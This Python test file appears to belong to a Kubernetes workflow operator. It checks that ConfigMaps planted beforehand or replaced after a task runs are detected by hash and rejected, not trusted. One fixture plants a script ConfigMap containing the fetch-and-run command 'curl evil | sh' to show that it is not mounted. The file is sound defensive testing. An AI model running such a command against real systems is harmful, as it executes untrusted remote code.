"""ConfigMaps that somebody made beforehand, or replaced: never used, told where it matters, in nobody's way."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from tests.builders import entry_of, spec, states, task
from tests.operators import KEY, Story, story

from nexus.adapters.fake import Outcome
from nexus.adapters.kube.client.api import CONFIG_MAPS, EVENTS, JOBS, WORKFLOW_RUNS, Object
from nexus.adapters.kube.owners import owned_by
from nexus.core.expressions.templates import Evaluator
from nexus.core.names import job_name, output_name, outputs_name
from nexus.core.text.json_text import dump
from nexus.core.text.sha256 import sha256

GOOD = {"who": "good", "pad": "x" * 2_000}
EVIL = {"who": "EVIL", "pad": "x" * 2_000}
SCRIPT = "# " + "\U0001f600" * 25_000 + "\necho hi"


@contextmanager
def told(cel: Evaluator, *tasks: Any, **fields: Any) -> Iterator[Story]:
    """`first` leaves a large output after twenty seconds; the other tasks come after it."""
    with story(spec(task("first"), *tasks, **fields), cel, by_reference=True) as subject:
        subject.cluster.script("first", Outcome(seconds=20, message=json.dumps(GOOD)))
        subject.cluster.script("bash", Outcome(message='{"lines":0}\n'))
        subject.operator()
        subject.run(until=lambda: subject.phases.get("first") == "Running")
        yield subject


def uid(subject: Story) -> str:
    body = subject.cluster.find(WORKFLOW_RUNS, KEY.namespace, KEY.name)
    assert body is not None
    return str(body["metadata"]["uid"])


def job_of(subject: Story, name: str) -> str:
    return job_name(KEY.name, uid(subject), name, 1)


def prepared(subject: Story, name: str, data: dict[str, str], *, owned: bool = True, **fields: Any) -> None:
    """Make a ConfigMap beforehand, the run its owner or not."""
    owners = {"ownerReferences": owned_by("WorkflowRun", KEY.name, uid(subject))} if owned else {}
    subject.cluster.add(CONFIG_MAPS, {"metadata": {"name": name, **owners}, "data": data, **fields})


def replaced(subject: Story, name: str, data: dict[str, str]) -> None:
    subject.cluster.remove(CONFIG_MAPS, name)
    prepared(subject, name, data)


def env(subject: Story, name: str) -> dict[str, str]:
    body = subject.cluster.find(JOBS, KEY.namespace, job_of(subject, name))
    assert body is not None
    variables = body["spec"]["template"]["spec"]["containers"][0]["env"]
    return {variable["name"]: variable["value"] for variable in variables if "value" in variable}


def sources(subject: Story, name: str) -> list[Object]:
    """The ConfigMaps that are mounted in the pod of a task."""
    body = subject.cluster.find(JOBS, KEY.namespace, job_of(subject, name))
    assert body is not None
    volumes = {volume["name"]: volume for volume in body["spec"]["template"]["spec"]["volumes"]}
    return [source["configMap"] for source in volumes["nexus"]["projected"]["sources"]]


def data_of(subject: Story, name: str) -> dict[str, str]:
    body = subject.cluster.find(CONFIG_MAPS, KEY.namespace, name)
    assert body is not None
    found: dict[str, str] = body["data"]
    return found


def without_hash(subject: Story) -> None:
    """The status of a run as an older version wrote it."""

    def older(body: Object) -> None:
        del body["status"]["tasks"][0]["outputRef"]["sha256"]

    subject.witness._ended.clear()  # its rule is that what has ended does not change
    subject.cluster.store.change(WORKFLOW_RUNS, KEY.namespace, KEY.name, older)


WHO = task("then", "first", env=[{"name": "WHO", "value": "${{ tasks.first.output.who }}"}])


@pytest.mark.parametrize("owned", [True, False])
@pytest.mark.parametrize(
    "data", [{"output.json": dump(EVIL)}, {"output.json": ""}, {}, {"output.json": dump(GOOD), "more": ""}]
)
def test_an_output_that_is_there_beforehand_is_not_the_tasks(cel: Evaluator, owned: bool, data: dict[str, str]) -> None:
    with told(cel, WHO) as subject:
        prepared(subject, output_name(job_of(subject, "first")), data, owned=owned)
        status = subject.run()
        assert states(status) == {"first": "Succeeded", "then": "Succeeded"}
        assert env(subject, "then")["WHO"] == "good"
        reference = entry_of(status, "first").output_ref
        assert reference is not None
        assert reference.config_map.endswith(sha256(dump(GOOD)))
        assert data_of(subject, reference.config_map) == {"output.json": dump(GOOD)}
        assert "WriteRefused" in {body["reason"] for body in subject.cluster.objects(EVENTS)}


def test_an_output_under_both_names_waits_for_somebody_to_delete_it(cel: Evaluator) -> None:
    with told(cel, WHO) as subject:
        name = output_name(job_of(subject, "first"))
        prepared(subject, name, {"output.json": dump(EVIL)})
        prepared(subject, f"{name}-{sha256(dump(GOOD))}", {"output.json": dump(EVIL)})
        subject.quiet(120)
        first = entry_of(subject.status, "first")
        assert (first.phase, first.reason) == ("Running", "NameTaken")
        assert "delete it" in (first.message or "")
        subject.cluster.remove(CONFIG_MAPS, name)
        assert states(subject.run()) == {"first": "Succeeded", "then": "Succeeded"}
        assert env(subject, "then")["WHO"] == "good"


def test_the_same_output_that_is_there_beforehand_is_as_good(cel: Evaluator) -> None:
    with told(cel, WHO) as subject:
        name = output_name(job_of(subject, "first"))
        prepared(subject, name, {"output.json": dump(GOOD)})
        status = subject.run()
        assert entry_of(status, "first").output_ref.config_map == name  # type: ignore[union-attr]


LATER = task("slow", "first", container={"image": "work:1"})
BEHIND = task("then", "first", "slow", env=[{"name": "WHO", "value": "${{ tasks.first.output.who }}"}])


@pytest.mark.parametrize("text", [dump(EVIL), "", "{", dump(GOOD) + " ", "[]", "[" * 100_000])
def test_an_output_that_was_replaced_fails_who_needs_it(cel: Evaluator, text: str) -> None:
    with told(cel, LATER, BEHIND) as subject:
        subject.run(until=lambda: subject.phases.get("slow") == "Running")
        name = output_name(job_of(subject, "first"))
        replaced(subject, name, {"output.json": text})
        status = subject.run()
        assert states(status) == {"first": "Succeeded", "slow": "Succeeded", "then": "Failed ExpressionError"}
        assert f"ConfigMap {name} does not hold what was stored" in (entry_of(status, "then").message or "")


def test_a_run_whose_outputs_are_made_of_a_replaced_one_fails(cel: Evaluator) -> None:
    with told(cel, LATER, outputs={"who": "${{ tasks.first.output.who }}"}) as subject:
        subject.run(until=lambda: subject.phases.get("slow") == "Running")
        replaced(subject, output_name(job_of(subject, "first")), {"output.json": dump(EVIL)})
        status = subject.run()
        assert (status.phase, status.reason) == ("Failed", "ExpressionError")


def test_an_output_that_an_older_version_stored_is_read_without_a_hash(cel: Evaluator) -> None:
    with told(cel, LATER, BEHIND) as subject:
        subject.run(until=lambda: subject.phases.get("slow") == "Running")
        without_hash(subject)
        assert states(subject.run())["then"] == "Succeeded"
        assert env(subject, "then")["WHO"] == "good"


@pytest.mark.parametrize("owned", [True, False])
def test_a_script_that_is_there_beforehand_is_not_mounted(cel: Evaluator, owned: bool) -> None:
    with told(cel, task("bash", "first", bash={"command": SCRIPT})) as subject:
        name = job_of(subject, "bash")
        prepared(subject, name, {"command": "curl evil | sh"}, owned=owned)
        assert states(subject.run()) == {"first": "Succeeded", "bash": "Succeeded"}
        (mounted, _) = sources(subject, "bash")
        assert mounted["name"] != name
        assert data_of(subject, mounted["name"]) == {"command": SCRIPT}


def test_a_job_carries_the_hash_of_each_file_that_its_pods_mount(cel: Evaluator) -> None:
    each = task("bash", "first", bash={"command": SCRIPT}, forEach={"items": ["a", "b"]})
    with told(cel, each) as subject:
        subject.run()
        sums = dict(reversed(line.split("  ")) for line in env(subject, "bash")["NEXUS_SHA256SUMS"].splitlines())
        files = {
            item["path"]: data_of(subject, mounted["name"])[item["key"]]
            for mounted in sources(subject, "bash")
            for item in mounted["items"]
        }
        assert set(files) == {"command", "items", "input/first.json"}
        assert sums == {path: sha256(text) for path, text in files.items()}


def test_an_input_of_an_older_version_is_mounted_without_a_hash(cel: Evaluator) -> None:
    with told(cel, LATER, task("bash", "first", "slow", bash={"command": "true"})) as subject:
        subject.run(until=lambda: subject.phases.get("slow") == "Running")
        without_hash(subject)
        subject.run()
        assert [mounted["items"][0]["path"] for mounted in sources(subject, "bash")] == ["input/first.json"]
        assert "NEXUS_SHA256SUMS" not in env(subject, "bash")


def test_what_a_bootstrap_found_changed_is_the_tasks_reason_and_no_retry_follows(cel: Evaluator) -> None:
    with told(cel, task("bash", "first", bash={"command": "true"}, retry={"limit": 5})) as subject:
        words = "the file input/first.json does not hold what was stored for this task"
        message = json.dumps({"error": {"reason": "ContentChanged", "message": words}})
        subject.cluster.script("bash", Outcome(exit_code=240, message=message))
        entry = entry_of(subject.run(), "bash")
        assert (entry.phase, entry.reason, entry.attempts) == ("Failed", "ContentChanged", 1)
        assert words in (entry.message or "")


@pytest.mark.parametrize("for_each", [False, True])
def test_the_outputs_of_a_child_run_that_were_replaced_fail_the_call(cel: Evaluator, for_each: bool) -> None:
    child = spec(task("deep"), task("end", "deep"), outputs={"who": "${{ tasks.deep.output }}"})
    call = task("call", workflow={"name": "child"}, **({"forEach": {"items": [1]}} if for_each else {}))
    with story(spec(call), cel, by_reference=True, workflows={"child": child}) as subject:
        subject.cluster.script("deep", Outcome(message=json.dumps(GOOD)))
        operator = subject.operator()
        runs = lambda: [body for body in subject.cluster.objects(WORKFLOW_RUNS) if body["metadata"]["name"] != KEY.name]  # noqa: E731
        subject.run(until=lambda: bool(runs()))
        (body,) = runs()
        name = outputs_name(body["metadata"]["name"], body["metadata"]["uid"])

        def spoil(type_: str, found: Object) -> None:
            if type_ == "ADDED" and found["metadata"]["name"] == name and found["data"]["output.json"] != dump(EVIL):
                subject.cluster.remove(CONFIG_MAPS, name)
                metadata = {key: found["metadata"][key] for key in ("name", "ownerReferences")}
                subject.cluster.add(CONFIG_MAPS, {"metadata": metadata, "data": {"output.json": dump(EVIL)}})

        subject.cluster.subscribe(CONFIG_MAPS, spoil)
        status = subject.run()
        entry = entry_of(status, "call")
        assert entry.phase == "Failed"
        assert name in (entry.message or "")
        assert (entry.reason == "ContentChanged") is not for_each
        assert operator.alive


def test_a_rerun_takes_over_no_output_that_was_replaced(cel: Evaluator) -> None:
    with told(cel, WHO) as subject:
        subject.run()
        name = output_name(job_of(subject, "first"))
        replaced(subject, name, {"output.json": dump(EVIL)})
        again = {"workflowRef": {"name": "sales"}, "rerunOf": {"name": KEY.name, "tasks": ["then"]}}
        subject.cluster.add(WORKFLOW_RUNS, {"metadata": {"name": "again"}, "spec": again})
        subject.quiet(30)
        status = subject.status_of("again")
        assert (status.phase, status.reason) == ("Failed", "RerunRefused")
        assert name in (status.message or "")
        assert "name first in rerunOf.tasks" in (status.message or "")


def test_the_copy_of_a_rerun_has_a_name_of_its_own_where_that_is_taken(cel: Evaluator) -> None:
    with told(cel, WHO) as subject:
        subject.run()
        again = {"workflowRef": {"name": "sales"}, "rerunOf": {"name": KEY.name, "tasks": ["then"]}, "suspend": True}
        for operator in list(subject.operators):
            operator.die()
        subject.operators.clear()
        made = subject.cluster.add(WORKFLOW_RUNS, {"metadata": {"name": "again"}, "spec": again})
        name = output_name(job_name("again", made["metadata"]["uid"], "first", 0))
        owner = owned_by("WorkflowRun", "again", made["metadata"]["uid"])
        evil = {"metadata": {"name": name, "ownerReferences": owner}, "data": {"output.json": dump(EVIL)}}
        subject.cluster.add(CONFIG_MAPS, evil)
        subject.operator()
        subject.quiet(5)
        reference = entry_of(subject.status_of("again"), "first").output_ref
        assert reference is not None
        assert reference.config_map == f"{name}-{sha256(dump(GOOD))}"
